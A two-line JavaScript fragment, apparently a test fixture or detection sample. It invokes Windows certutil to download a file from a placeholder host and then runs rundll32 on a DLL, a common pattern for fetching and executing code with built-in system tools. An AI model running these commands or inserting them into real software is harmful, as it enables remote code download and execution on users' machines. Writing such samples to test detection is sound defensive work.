execSync('certutil -urlcache -f http://files.invalid/x x');
spawn("rundll32", ["inert.dll,main"]);
